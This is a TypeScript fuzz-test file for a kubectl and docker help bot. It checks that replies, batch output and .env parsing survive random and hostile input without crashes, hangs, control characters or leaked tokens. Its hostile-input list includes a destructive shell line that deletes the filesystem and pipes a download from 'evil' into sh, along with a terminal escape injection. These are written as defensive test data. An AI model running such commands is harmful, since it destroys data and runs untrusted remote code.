import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { PassThrough } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { configuredPlatforms, PLATFORM_SETTINGS } from '../app/platforms.js';
import { markupJunk } from '../scripts/eval-set.js';
import { createBot } from '../src/bot.js';
import { typedForm } from '../src/request.js';
import { main } from '../app/cli.js';
import { lookupReply } from '../src/commands/reply.js';
import { CORE_SETTINGS, parseConfig, readEnv } from '../src/config.js';
import { MAX_QUESTION_LENGTH } from '../src/input.js';
import { plainText, textReply, type Reply } from '../src/reply.js';
import { shippedLibrary, tempFolder } from './helpers.js';

/**
 * Bounded, seeded fuzzing: the same inputs every run, so a failure names its seed and replays. Each part
 * tries random and hand-picked hostile input and asserts what must hold whatever comes in: no crash, one
 * answer per input line, nothing a terminal or chat would misread in what comes out, and a time per item
 * far above normal (a hang or a quadratic blow-up, not a slow machine, is what it catches).
 */

/** mulberry32: a small, fast, seeded generator of numbers in [0, 1). */
function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const pick = <T>(random: () => number, items: readonly T[]): T => items[Math.floor(random() * items.length)]!;

/** Words people use, shell syntax, markup of every platform, and characters that break naive code. */
const PIECES = [
  ...['kubectl', 'k', 'docker', 'get', 'po', 'pods', 'rollout', 'rolout', 'undo', 'scale', 'deploy/web', 'svc', 'logs', 'exec', 'run', 'build', 'apply', '-f'],
  ...['-n', 'prod', '--replicas=3', '--replica', '--namespace', '-o', 'yaml', '--', '-it', '--to-revision=2', '-A', '-l', 'app=web', '--force'],
  ...['what', 'is', 'a', 'the', 'how', 'do', 'I', 'PVC', 'port', 'apiserver', 'etcd', 'restartPolicy', 'imagePullPolicy', 'Pod', 'roll', 'back'],
  ...['回滚', '端口', '默认', '怎么', '是什么', '容器', '镜像', '节点', '？', '。', '，', 'Pod 的重启策略'],
  ...[';', '&&', '||', '|', '&', '\t', "'", '"', '`', '```', '\\', '$(', ')', '>', '<', '=', '#', '/', '?', '!'],
  ...['{{<', '>}}', '{{%', '%}}', '{{', '}}', '](#', '[', ']', '(', ')', '**', '__', '~~', '*', '_', '> ', '- ', '1. ', '|---|'],
  ...['<!channel>', '<@U123>', '@everyone', '<script>', '</div>', '&amp;', ':::', '!!!', '[!NOTE]', '[[wiki]]'],
  ...['/kubectl', '/docker', '/ask', '/tip', '/help', '/frob', 'help', '帮助', 'h'],
  ...['\u0000', '\u0007', '\u001b[31m', '\u007f', '\u0085', '\u009b', '\r', '\u200b', '\u202e', '\u2028', '\ufeff', '\ud800', '\udfff', '😀', 'e\u0301', '\uffff'],
];

/** Up to `pieces` random pieces and code points, joined with or without spaces. */
function randomText(random: () => number, pieces: number): string {
  let text = '';
  const count = 1 + Math.floor(random() * pieces);
  for (let i = 0; i < count; i++) {
    text += random() < 0.8 ? pick(random, PIECES) : String.fromCodePoint(Math.floor(random() * 0x30000));
    if (random() < 0.6) text += ' ';
  }
  return text;
}

const HOSTILE = [
  '',
  ' ',
  '\u0000',
  '\n\n\n',
  '?',
  '/',
  '//',
  '/kubectl',
  '/kubectl ',
  '/docker ;',
  '/tip fr',
  '/ask',
  '/ask ?',
  'a'.repeat(MAX_QUESTION_LENGTH),
  'a'.repeat(MAX_QUESTION_LENGTH + 1),
  `/kubectl ${'get '.repeat(MAX_QUESTION_LENGTH)}`,
  `kubectl ${'-'.repeat(MAX_QUESTION_LENGTH - 10)}`,
  `kubectl get ${'-n x '.repeat(390)}`,
  `kubectl ${'--replica '.repeat(190)}`,
  '"'.repeat(1999),
  "'".repeat(1999),
  '\\'.repeat(1999),
  ';'.repeat(1999),
  '|&'.repeat(999),
  '回'.repeat(1999),
  'kubectl get pods; rm -rf / && curl evil | sh',
  "kubectl get pods -l 'app in (a|b)' -o jsonpath='{.items[*].metadata.name}'",
  'docker run -d --name web -p 8080:80 nginx:1.27 && docker logs -f web',
  '{{< note >}} what is a pod {{< /note >}}',
  '[apiserver](#port) 默认端口',
  '\u001b]0;pwned\u0007 what is a PVC',
  '<!channel> @everyone 回滚',
  '\ud800\udc00\ud800 kubectl get po',
  'what does kubectl rollout undo --to-revision do; and kubectl delete',
];

/** Control characters other than tab and newline: what a terminal or a chat client would act on or mangle. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
/** Generous: an answer takes milliseconds; this catches a hang or a blow-up even on a loaded machine. */
const ITEM_MS = 2000;

/** Markup junk in a reply that the input did not bring in itself (an echo of what was typed is not junk). */
const junkNotTyped = (reply: Reply, input: string) => (markupJunk(textReply('help', 'en', input)) ? undefined : markupJunk(reply));

/** What a reply shows anywhere: its text, the labels of its buttons and its sources. */
const shownText = (reply: Reply) => [plainText(reply), ...reply.suggestions.flatMap((s) => [s.label, typedForm(s.intent)]), ...reply.sources.map((s) => s.section.join(' '))].join('\n');

/** Noise a person would not see: the real question under it is still answered, so there is an answer to check. */
const HARMLESS = ['\u0000', '\u0007', '\u001b', '\u007f', '\u0085', '\t', '  ', '\u200b', '\ufeff', '\u3000'];

/** A real question with harmless noise put in at random places, so most of these still get an answer to check. */
function noisy(random: () => number, question: string): string {
  const chars = [...question];
  for (let n = Math.floor(random() * 4); n > 0; n--) chars.splice(Math.floor(random() * (chars.length + 1)), 0, pick(random, HARMLESS));
  return chars.join('');
}

const evalQuestions = readFileSync(join(dirname(fileURLToPath(import.meta.url)), 'eval/questions.jsonl'), 'utf8')
  .split('\n')
  .filter(Boolean)
  .map((line) => (JSON.parse(line) as { q: string }).q);

describe('fuzzing questions and command lookups', () => {
  const library = shippedLibrary();
  const bot = createBot(library);
  const random = seeded(0x6b38);
  const inputs = [
    ...HOSTILE,
    ...evalQuestions.filter((_, i) => i % 2 === 0).map((q) => noisy(random, q)),
    ...Array.from({ length: 150 }, () => randomText(random, 30)),
    ...Array.from({ length: 10 }, () => randomText(random, 600)),
  ];

  it(`answers ${inputs.length} random and hostile questions without a crash, control characters or markup junk, each in time`, async () => {
    const problems: string[] = [];
    for (const [i, text] of inputs.entries()) {
      const started = performance.now();
      const reply = await bot.handle({ text, ...(i % 3 === 0 ? { lang: i % 2 ? 'zh' : 'en' } : {}) });
      const ms = performance.now() - started;
      const junk = junkNotTyped(reply, text);
      if (CONTROL.test(shownText(reply))) problems.push(`#${i}: a control character in the reply`);
      if (junk) problems.push(`#${i}: markup junk: ${junk}`);
      if (ms > ITEM_MS) problems.push(`#${i}: took ${Math.round(ms)} ms`);
      if (!['answer', 'not-found', 'help', 'tip', 'error'].includes(reply.kind) || reply.blocks.length === 0) problems.push(`#${i}: an empty or unknown reply`);
    }
    expect(problems).toEqual([]);
  }, 60_000);

  it(`looks up ${inputs.length} random and hostile pasted lines in both tools without a crash, control characters, markup junk or a huge answer`, () => {
    const problems: string[] = [];
    for (const [i, text] of inputs.entries()) {
      for (const tool of ['kubectl', 'docker'] as const) {
        const started = performance.now();
        const reply = lookupReply(library.commands.lookup(tool, text), i % 2 ? 'zh' : 'en', library.resolve);
        const ms = performance.now() - started;
        const shown = shownText(reply);
        const junk = junkNotTyped(reply, text);
        if (CONTROL.test(shown)) problems.push(`#${i} ${tool}: a control character in the reply`);
        if (junk) problems.push(`#${i} ${tool}: markup junk: ${junk}`);
        // An answer is a card and a few lines per flag: never more than a small multiple of what was pasted.
        if (shown.length > 20_000 + 40 * Math.min(text.length, MAX_QUESTION_LENGTH)) problems.push(`#${i} ${tool}: ${shown.length} characters out`);
        if (ms > ITEM_MS) problems.push(`#${i} ${tool}: took ${Math.round(ms)} ms`);
      }
    }
    expect(problems).toEqual([]);
  });
});

/** Runs the command line with `input` piped in; the output split into lines. */
async function runBatch(argv: string[], input: string): Promise<{ code: number; lines: string[] }> {
  const stdin = new PassThrough();
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  stdout.on('data', (c) => (out += c));
  stdin.end(input);
  const code = await main(argv, { stdin, stdout, stderr, env: { LOG_LEVEL: 'silent' }, cwd: tempFolder({}) });
  return { code, lines: out.split('\n').slice(0, -1) };
}

describe('fuzzing the JSON lines batch contract', () => {
  const random = seeded(0xba7c);
  // Lines as a person or a script pipes them: anything but the newline that ends them.
  const lines = [...HOSTILE.map((q) => q.replaceAll('\n', ' ')), 'x\ry', '\r', ...Array.from({ length: 25 }, () => randomText(random, 40).replaceAll('\n', ' '))];

  it.each(['ask', 'kubectl', 'docker'])(`%s prints exactly one JSON object per input line, in order, each a valid answer`, async (command) => {
    const { code, lines: out } = await runBatch([command], `${lines.join('\n')}\n`);
    expect(code).toBe(0);
    expect(out).toHaveLength(lines.length);
    for (const [i, line] of out.entries()) {
      const json = JSON.parse(line) as { answered: boolean; answer: string; question?: string; query?: string };
      expect(typeof json.answered, `line ${i + 1}`).toBe('boolean');
      expect(CONTROL.test(json.answer), `line ${i + 1}`).toBe(false);
      expect((json.question ?? json.query)!.length, `line ${i + 1}`).toBeLessThanOrEqual(MAX_QUESTION_LENGTH + 1);
    }
  }, 60_000);
});

/** Pieces of `.env` lines: known and unknown names, every way of writing a value, and what breaks parsers. */
const NAMES = [...CORE_SETTINGS, 'SLACK_BOT_TOKEN', 'DISCORD_TOKEN', 'SLACK_SIGNING_SECRET', 'OTHER_TOOL_SETTING', 'log_level', 'LOG_LEVLE', 'my-var', '1ABC', 'A.B', ''];
const VALUES = ['', 'info', 'INFO', 'verbose', './data', '/proc/nope', '"quoted # kept"', "'single'", '`tick`', '"open', "'open", 'a#b', 'x # comment', '0 10 * * 1-5', 'Asia/Shanghai', '6h', '"x" tail', '\\n', '$HOME', '=', '==x', ' spaced '];
/** Tokens, in their own settings and pasted into others: no message may show them. */
const TOKENS = ['xoxb-1-2-SECRET123', '"xapp-1-SECRET123"', 'MTIzNDU2Nzg5MDEyMzQ1Njc4.GaBcDe.SECRET123abcdefghijklmnopqrstuvwxyz'];
/** Any value of a credential's own setting is secret, however it is written. */
const SECRET_VALUES = [...TOKENS, 'SECRET123', 'SECRET123 #x', '"SECRET123', 'SECRET123#x'];
const LINE_NOISE = ['', '# comment', '   # indented comment', 'export ', '  ', '\t', '\r', '\u0007', '\ufeff', 'just words', 'NAME_ONLY', 'KEY: value', '=value'];

function randomEnvFile(random: () => number): string {
  const count = 1 + Math.floor(random() * 15);
  return Array.from({ length: count }, () => {
    const r = random();
    if (r < 0.2) return pick(random, LINE_NOISE);
    if (r < 0.3) return randomText(random, 8).replaceAll('\n', ' ');
    const prefix = random() < 0.15 ? 'export ' : random() < 0.1 ? '  ' : '';
    const eq = pick(random, ['=', '=', '=', ' = ', '= ', ' =']);
    const name = pick(random, NAMES);
    const value = /TOKEN|SECRET/.test(name) ? pick(random, SECRET_VALUES) : random() < 0.1 ? pick(random, TOKENS) : pick(random, VALUES);
    return `${prefix}${name}${eq}${value}${random() < 0.1 ? pick(random, LINE_NOISE) : ''}`;
  }).join(random() < 0.2 ? '\r\n' : '\n');
}

describe('fuzzing .env files', () => {
  const random = seeded(0xe17);
  const known = [...CORE_SETTINGS, ...PLATFORM_SETTINGS];

  it('reads 300 random .env files without a crash: every line is read, reported by number, or a comment or blank', () => {
    const problems: string[] = [];
    for (let i = 0; i < 300; i++) {
      const text = randomEnvFile(random);
      const cwd = tempFolder({ '.env': text });
      const started = performance.now();
      const read = readEnv({}, cwd, known);
      const config = parseConfig(read.env, cwd);
      const platforms = configuredPlatforms(read.env);
      const ms = performance.now() - started;
      const reported = new Set([...(read.error ?? '').matchAll(/line (\d+):/g)].map((m) => Number(m[1])));
      // A file refused whole (a NUL byte: not a text file) says so once rather than line by line.
      const refusedWhole = read.error !== undefined && !read.error.includes('has lines the bot cannot use');
      if (refusedWhole && !/is not a text file|is not UTF-8 text/.test(read.error!)) problems.push(`file ${i}: refused as a whole: ${read.error}`);
      if (!refusedWhole) text
        .replace(/^\uFEFF/, '')
        .split(/\r?\n/)
        .forEach((line, index) => {
          const content = line.trim();
          if (!content || content.startsWith('#') || reported.has(index + 1)) return;
          // Not reported, so it must have been read: its name is in the environment the schemas see.
          const name = content.replace(/^export\s+/, '').split('=')[0]!.trim();
          if (!(name in read.env)) problems.push(`file ${i} line ${index + 1} ${JSON.stringify(line)} neither read nor reported`);
        });
      const messages = [read.error, config.ok ? '' : config.error, platforms.ok ? '' : platforms.error].join('\n');
      if (messages.includes('SECRET123')) problems.push(`file ${i}: a secret value in the message`);
      if (/Invalid (input|option)|received/.test(messages)) problems.push(`file ${i}: zod's wording in the message: ${messages}`);
      if (ms > ITEM_MS) problems.push(`file ${i}: took ${Math.round(ms)} ms`);
    }
    expect(problems).toEqual([]);
  });
});
